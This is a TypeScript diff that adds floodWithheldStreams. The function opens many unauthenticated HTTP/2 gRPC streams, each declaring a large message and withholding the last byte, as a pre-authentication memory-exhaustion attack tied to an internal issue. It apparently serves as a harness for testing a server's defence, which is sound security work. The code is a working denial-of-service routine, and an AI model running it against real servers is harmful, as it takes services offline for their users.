@@ -131,3 +131,98 @@ export async function registerWithWorkerAsOracle(o: {
     coordinator.close();
   }
 }
+
+export interface FloodOptions {
+  /** host:port of the gRPC server. */
+  address: string;
+  /** gRPC method path, e.g. /nextbuy.v1.Worker/LoadModel. */
+  path: string;
+  connections: number;
+  streamsPerConnection: number;
+  /** Size each stream's one message declares; all but its last byte are sent (as far as the server lets them). */
+  messageBytes: number;
+  /** A stream whose writes do not drain for this long counts as stalled (the server stopped reading). @default 1500 */
+  stallMs?: number;
+}
+
+export interface Flood {
+  /** Streams the server ended (refused) and streams still open, stalled or with all but the last byte sent. */
+  ended: number;
+  open: number;
+  /** Bytes of message bodies the server accepted (written and drained). */
+  bytesSent: number;
+  close(): void;
+}
+
+/**
+ * The pre-authentication memory attack of issue 22 point 4: many HTTP/2 streams, each declaring a large
+ * gRPC message without credentials and sending all of it but the last byte. Raw node:http2 (no
+ * grpc-js), from one reused buffer, so the attacker itself holds little.
+ */
+export async function floodWithheldStreams(o: FloodOptions): Promise<Flood> {
+  const { connect, constants } = await import('node:http2');
+  const chunk = Buffer.alloc(256 * 1024, 0x5a);
+  const stallMs = o.stallMs ?? 1_500;
+  const sessions = Array.from({ length: o.connections }, () => {
+    const s = connect(`http://${o.address}`);
+    s.on('error', () => {});
+    return s;
+  });
+  let bytesSent = 0;
+  let ended = 0;
+  const one = (session: ReturnType<typeof connect>) =>
+    new Promise<void>((resolve) => {
+      const stream = session.request({
+        [constants.HTTP2_HEADER_METHOD]: 'POST',
+        [constants.HTTP2_HEADER_PATH]: o.path,
+        [constants.HTTP2_HEADER_CONTENT_TYPE]: 'application/grpc',
+        [constants.HTTP2_HEADER_TE]: 'trailers',
+        'nextbuy-protocol': String(PROTOCOL_VERSION),
+      });
+      let done = false;
+      const finish = (wasEnded: boolean) => {
+        if (done) return;
+        done = true;
+        if (wasEnded) ended++;
+        resolve();
+      };
+      stream.on('error', () => finish(true));
+      stream.on('close', () => finish(true));
+      stream.on('response', (headers) => {
+        if (headers['grpc-status'] !== undefined) finish(true); // a trailers-only answer: refused
+      });
+      stream.on('trailers', () => finish(true));
+      stream.resume();
+      const prefix = Buffer.alloc(5);
+      prefix.writeUInt32BE(o.messageBytes, 1);
+      stream.write(prefix);
+      (async () => {
+        let left = o.messageBytes - 1;
+        while (left > 0 && !done) {
+          const n = Math.min(left, chunk.length);
+          const flushed = stream.write(n === chunk.length ? chunk : chunk.subarray(0, n));
+          if (!flushed) {
+            const drained = await new Promise<boolean>((r) => {
+              const timer = setTimeout(() => r(false), stallMs);
+              stream.once('drain', () => {
+                clearTimeout(timer);
+                r(true);
+              });
+            });
+            if (!drained) return finish(false); // the server stopped reading: stalled
+          }
+          left -= n;
+          bytesSent += n;
+        }
+        finish(false);
+      })().catch(() => finish(true));
+    });
+  await Promise.all(sessions.flatMap((s) => Array.from({ length: o.streamsPerConnection }, () => one(s))));
+  const total = o.connections * o.streamsPerConnection;
+  return {
+    ended,
+    open: total - ended,
+    bytesSent,
+    close: () => sessions.forEach((s) => s.destroy()),
+  };
+}
